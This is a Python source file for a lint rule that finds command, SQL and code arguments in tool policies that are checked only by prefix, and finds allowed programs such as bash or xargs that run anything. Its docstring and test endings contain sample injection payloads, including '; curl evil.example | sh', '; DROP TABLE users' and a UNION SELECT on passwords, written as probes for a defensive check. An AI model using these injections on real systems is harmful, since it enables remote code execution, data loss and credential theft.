"""A command or a query that is only looked at from the front.

What it does:
    Reports an argument that is run as a command, as SQL or as code, and whose pattern or rule
    lets anything follow a good beginning: `^git .*$`, `startsWith("SELECT ")`. And a listed
    program that runs whatever it is given, such as `bash`, `python`, `env`, `xargs` or `find`.

Why:
    `git status; curl evil.example | sh` begins with `git `, and `SELECT 1; DROP TABLE users` with
    `SELECT `.

Fails:
    tools:
      run: {args: {command: {type: string, maxLength: 100, pattern: '^git .*$'}}}
    ---
    tools:
      query:
        args: {sql: {type: string, maxLength: 500}}
        rules:
          - {id: reads, when: '!args.sql.startsWith("SELECT ")', effect: deny}
    ---
    tools:
      run:
        args:
          command: {enum: [ls, bash]}
          more: {type: array, maxItems: 5, items: {type: string, maxLength: 50}}

Passes:
    tools:
      run: {args: {command: {type: string, maxLength: 100, pattern: '^git (status|log)$'}}}

Fix:
    List the commands, or say which characters may follow: no `;`, `|`, `&`, `$`, backtick, quote
    or line break.
"""

from collections.abc import Iterator
from typing import Final

from policy_engine.lint.accepted import accepted
from policy_engine.lint.pieces import lets_through, tested
from policy_engine.lint.places import SchemaAt, schemas
from policy_engine.lint.proof.regexes import sample, search
from policy_engine.lint.rule import Found, LintRule
from policy_engine.lint.subject import Subject
from policy_engine.lint.words import kind_of, names_in

__all__ = ["RULE"]

_ENDINGS: Final = {
    "shell": ("; curl evil.example | sh", "\ncurl evil.example", "$(curl evil.example)", " && id"),
    "sql": ("; DROP TABLE users", " UNION SELECT password FROM users", "\n; DELETE FROM users"),
    "code": ("; __import__('os').system('id')", "\n__import__('os').system('id')"),
}
"""What no command may end in."""
_RUNNERS: Final = names_in(
    """
    sh bash zsh dash ksh fish cmd cmd.exe powershell pwsh python python3 perl ruby node php lua
    env xargs find awk gawk sed ssh sudo su nohup time watch eval exec make docker kubectl
    """
)


def _find(subject: Subject) -> Iterator[Found]:
    for place in schemas(subject):
        kind = None if place.entry is None else _kind(place.name, place.entry.name)
        if kind is None:
            continue
        yield from _runners(subject, place, kind)
        pattern = place.schema.get("pattern")
        if not isinstance(pattern, str):
            continue
        tried = [text + end for end in _ENDINGS[kind] for text in sample(pattern)]
        for value in [value for value in tried if search(pattern, value) is True]:
            witness = accepted(subject, place, value, "accepted as it stands")
            if witness is not None:
                message = f'"{place.name}" may go on: {_shown(value)} is accepted'
                path = (*place.path, "pattern")
                yield Found(place.policy, path, message, _HINT, witness=witness)
                break
    for one in tested(subject):
        names = subject.covered(one.found)
        kind = _kind(one.argument.rpartition(".")[2], names[0] if names else "")
        if kind is None or one.kind != "prefix" or not one.allows:
            continue
        for end in _ENDINGS[kind]:
            value = f"{str(one.operand).rstrip()} 1{end}"
            witness = lets_through(subject, one, value, "not stopped")
            if witness is not None:
                yield Found(
                    one.found.policy,
                    one.found.path,
                    f'"{one.argument}" may go on: {_shown(value)} passes',
                    _HINT,
                    part=(one.clause.node.start, one.clause.node.end),
                    witness=witness,
                )
                break


def _runners(subject: Subject, place: SchemaAt, kind: str) -> Iterator[Found]:
    listed = place.schema.get("enum")
    alone = place.entry is not None and len(place.entry.block.args or {}) < 2
    if kind != "shell" or not isinstance(listed, list) or alone:
        return  # without further arguments it runs nothing else
    for index, value in enumerate(listed):
        if isinstance(value, str) and value.rpartition("/")[2] in _RUNNERS:
            message = f'"{value}" runs whatever it is given'
            hint = "list what may be run, each with its arguments"
            witness = accepted(subject, place, value, "accepted, with any of its arguments")
            path = (*place.path, "enum", index)
            yield Found(place.policy, path, message, hint, witness=witness)


def _kind(name: str, tool: str) -> str | None:
    kind = kind_of(name, tool)
    return kind if kind in _ENDINGS else None


def _shown(value: str) -> str:
    return '"' + value.replace("\n", "\\n")[:80] + '"'


_HINT: Final = "list the commands, or say which characters may follow"

RULE: Final = LintRule("PE228", "command-by-prefix", "warning", __doc__ or "", _find)
